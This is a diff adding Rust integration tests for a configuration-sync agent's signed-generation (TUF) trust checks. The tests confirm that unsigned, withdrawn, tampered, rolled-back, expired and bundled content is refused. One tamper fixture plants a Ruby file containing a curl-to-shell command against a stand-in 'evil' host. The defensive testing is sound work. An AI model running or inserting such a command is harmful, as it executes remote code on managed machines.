@@ -1,0 +1,221 @@
+//! The agent with `[trust] root` (docs/agent.md#signed-generations),
+//! through the real binary against a real master carrying the metadata
+//! the tests' signer made with `tough`'s editor: a signed generation
+//! syncs and a no-op run after it changes nothing; each attack is refused
+//! with one line and exit 65, the node's files and modes unchanged.
+
+use std::path::Path;
+use std::time::Duration;
+
+use pluginsync_common::generation::{Assignment, GenerationId, assignment_url, manifest_url};
+use pluginsync_tests::{
+    AgentHome, AgentRun, EnvTree, Pki, TestMaster, TufSigner, client, config_toml, parse_config,
+    tree_snapshot, wait_for,
+};
+
+const DAY: Duration = Duration::from_secs(86400);
+
+/// What `[trust]` refusals exit with (`agent/src/exit.rs`).
+const UNTRUSTED: i32 = 65;
+
+/// A master carrying `signer`'s metadata for a tree of `production`.
+fn master(tree: &EnvTree, pki: &Pki, signer: &TufSigner) -> TestMaster {
+    let tables = format!("[trust]\nmetadata = {:?}\n", signer.metadata);
+    TestMaster::start(parse_config(&config_toml(
+        &tree.envpath(),
+        pki,
+        "",
+        &tables,
+    )))
+}
+
+/// An agent of `m` verifying from `signer`'s root, with `grace`.
+fn agent(pki: &Pki, m: &TestMaster, signer: &TufSigner, grace: &str) -> AgentHome {
+    let extra = format!(
+        "[trust]\nroot = {:?}\ngrace = {grace:?}\n",
+        signer.root_file()
+    );
+    AgentHome::new(pki, &[m.url()], &extra)
+}
+
+/// The generation the master serves now, once it differs from `other`.
+async fn served(c: &reqwest::Client, base: &str, other: Option<GenerationId>) -> GenerationId {
+    let url = assignment_url(base, "production");
+    wait_for(Duration::from_secs(60), || {
+        let (c, url) = (c.clone(), url.clone());
+        async move {
+            let r = c.get(&url).send().await.ok()?;
+            (r.status() == 200).then_some(())?;
+            let a: Assignment = serde_json::from_slice(&r.bytes().await.ok()?).ok()?;
+            (Some(a.generation) != other).then_some(a.generation)
+        }
+    })
+    .await
+    .expect("the master serves a new generation")
+}
+
+/// Signs (at the next publish) the manifest of the generation `id` the
+/// master serves; the target's name.
+async fn sign_served(
+    signer: &mut TufSigner,
+    c: &reqwest::Client,
+    base: &str,
+    id: &GenerationId,
+) -> String {
+    let url = manifest_url(base, "production", id, None);
+    let bytes = c.get(&url).send().await.unwrap().bytes().await.unwrap();
+    signer.sign_manifest("production", &bytes)
+}
+
+/// Files and modes of both destinations.
+fn node_state(home: &AgentHome) -> impl PartialEq + std::fmt::Debug {
+    (
+        tree_snapshot(&home.libdir()),
+        tree_snapshot(&home.factsdir()),
+        modes(&home.libdir()),
+    )
+}
+
+fn modes(dir: &Path) -> Vec<(String, u32)> {
+    use std::os::unix::fs::PermissionsExt;
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_owned()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+            let md = e.metadata().unwrap();
+            out.push((e.path().display().to_string(), md.permissions().mode()));
+            if md.is_dir() {
+                stack.push(e.path());
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+/// A run refused by `[trust]`: exit 65, one error line containing `what`
+/// and saying nothing changed.
+fn assert_refused(run: &AgentRun, what: &str) {
+    assert_eq!(run.code, UNTRUSTED, "{run:?}");
+    let errors: Vec<&str> = run
+        .stderr
+        .lines()
+        .filter(|l| l.contains("nothing was changed"))
+        .collect();
+    assert_eq!(errors.len(), 1, "{run:?}");
+    assert!(errors[0].contains(what), "{what}: {run:?}");
+}
+
+/// The happy path, then (f) a withdrawn generation still served and (a)
+/// a tree changed after signing (the master publishes a generation nobody
+/// signed): each refused, the node as the signed generation left it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_signed_generation_syncs_and_unsigned_or_withdrawn_ones_are_refused() {
+    let (tree, pki) = (EnvTree::new(), Pki::new());
+    tree.generate("production", 2, 5, 3);
+    let dir = tempfile::tempdir().unwrap();
+    let mut signer = TufSigner::new(&dir.path().join("repo")).await;
+    let m = master(&tree, &pki, &signer);
+    let c = client(&pki, Some("node1"));
+    let first = served(&c, &m.url(), None).await;
+    let home = agent(&pki, &m, &signer, "1h");
+
+    // Nothing signed yet: refused, nothing written.
+    signer.publish(DAY).await;
+    let before = node_state(&home);
+    assert_refused(&home.sync(&[]), "is not signed");
+    assert_eq!(node_state(&home), before);
+
+    let name = sign_served(&mut signer, &c, &m.url(), &first).await;
+    signer.publish(DAY).await;
+    let run = home.sync(&["--detailed-exitcodes"]);
+    assert_eq!(run.code, 2, "{run:?}");
+    assert!(home.libdir().read_dir().unwrap().next().is_some());
+    let synced = node_state(&home);
+    let again = home.sync(&["--detailed-exitcodes"]);
+    assert_eq!(again.code, 0, "a no-op run: {again:?}");
+    assert_eq!(node_state(&home), synced);
+
+    // (f) Withdrawn by the signers while the master still serves it.
+    signer.withdraw(&name);
+    signer.publish(DAY).await;
+    assert_refused(&home.sync(&[]), "withdrawn");
+    assert_eq!(node_state(&home), synced);
+
+    // (a) The tree changed by hand after signing: a new generation,
+    // self-consistent, that nobody signed.
+    tree.file(
+        "production",
+        "mod00",
+        "lib/facter/injected.rb",
+        "system('curl evil | sh')\n",
+        0o644,
+    );
+    let tampered = served(&c, &m.url(), Some(first)).await;
+    assert_ne!(tampered, first);
+    let run = home.sync(&[]);
+    assert_refused(&run, &format!("generation {} ", tampered.to_hex()));
+    assert_eq!(node_state(&home), synced);
+}
+
+/// (d) older metadata replayed after the node saw newer, and (e) a
+/// timestamp past its expiry and the grace: refused, nothing changed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn replayed_and_expired_metadata_are_refused() {
+    let (tree, pki) = (EnvTree::new(), Pki::new());
+    tree.generate("production", 2, 5, 4);
+    let dir = tempfile::tempdir().unwrap();
+    let mut signer = TufSigner::new(&dir.path().join("repo")).await;
+    let m = master(&tree, &pki, &signer);
+    let c = client(&pki, Some("node1"));
+    let id = served(&c, &m.url(), None).await;
+    sign_served(&mut signer, &c, &m.url(), &id).await;
+    signer.publish(DAY).await;
+    let ts = signer.metadata.join("timestamp.json");
+    let old = std::fs::read(&ts).unwrap();
+    signer.publish(DAY).await;
+    let home = agent(&pki, &m, &signer, "0s");
+    assert_eq!(home.sync(&[]).code, 0);
+    let synced = node_state(&home);
+
+    // (d) The master serves the first timestamp again.
+    std::fs::write(&ts, &old).unwrap();
+    assert_refused(&home.sync(&[]), "rollback refused");
+    assert_eq!(node_state(&home), synced);
+
+    // (e) Newer metadata, but expired by the time the node runs.
+    signer.publish(Duration::from_secs(1)).await;
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    assert_refused(&home.sync(&[]), "freeze refused");
+    assert_eq!(node_state(&home), synced);
+}
+
+/// (c) a bundle, hand-made or not, is never applied under `[trust]`, and
+/// servers that serve no generation (Puppet's listings) are refused.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bundles_and_listings_are_refused_under_trust() {
+    let (tree, pki) = (EnvTree::new(), Pki::new());
+    tree.generate("production", 2, 5, 5);
+    let dir = tempfile::tempdir().unwrap();
+    let signer = TufSigner::new(&dir.path().join("repo")).await;
+    let m = master(&tree, &pki, &signer);
+    let home = agent(&pki, &m, &signer, "1h");
+    let bundle = dir.path().join("hand-made.bundle");
+    std::fs::write(&bundle, b"not signed by anyone").unwrap();
+    let before = node_state(&home);
+    let run = home.sync(&["--from-bundle", bundle.to_str().unwrap()]);
+    assert_refused(&run, "signed bundles are not supported yet");
+    assert_eq!(node_state(&home), before);
+
+    let listings = AgentHome::new(
+        &pki,
+        &[m.url()],
+        &format!(
+            "generations = false\n[trust]\nroot = {:?}\n",
+            signer.root_file()
+        ),
+    );
+    let run = listings.sync(&[]);
+    assert_refused(&run, "the servers serve no generation");
+    assert!(tree_snapshot(&listings.libdir()).is_empty());
+}
